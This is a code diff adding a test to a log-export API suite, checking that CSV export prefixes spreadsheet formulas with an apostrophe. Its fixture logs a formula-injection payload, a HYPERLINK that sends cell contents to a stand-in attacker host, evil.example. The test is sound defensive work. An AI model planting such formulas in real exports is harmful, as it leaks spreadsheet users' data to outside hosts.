@@ -360,6 +360,19 @@ describe("log export", () => {
     expect((await call(`/api/account/${a.accountId}/logs/export?filterLevels=Verbose`, { key: a.invocation })).status).toBe(400);
   });
 
+  it("a hostile function cannot plant a spreadsheet formula in the export: its cells start with an apostrophe", async () => {
+    const a = await newAccount();
+    const fn = await deployed(a, `function lambda(input, callback) {
+  console.info('=HYPERLINK("https://evil.example/?"&A1,"open")');
+  console.info('@SUM(A1:A9)', { note: 'plain' });
+  callback(null, 'ok');
+}`);
+    await invoked(a, fn, {});
+    const rows = (await (await call(`/api/account/${a.accountId}/logs/export?lambdaUUID=${fn}`, { key: a.invocation })).text()).trim().split("\n").slice(1);
+    const messages = rows.map((r) => r.split(";")[4]);
+    expect(messages).toEqual([`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`, "'@SUM(A1:A9)"]);
+  });
+
   it("streams every entry past the page size, with no line cap", async () => {
     const a = await newAccount();
     const t = Date.now() - 60_000;
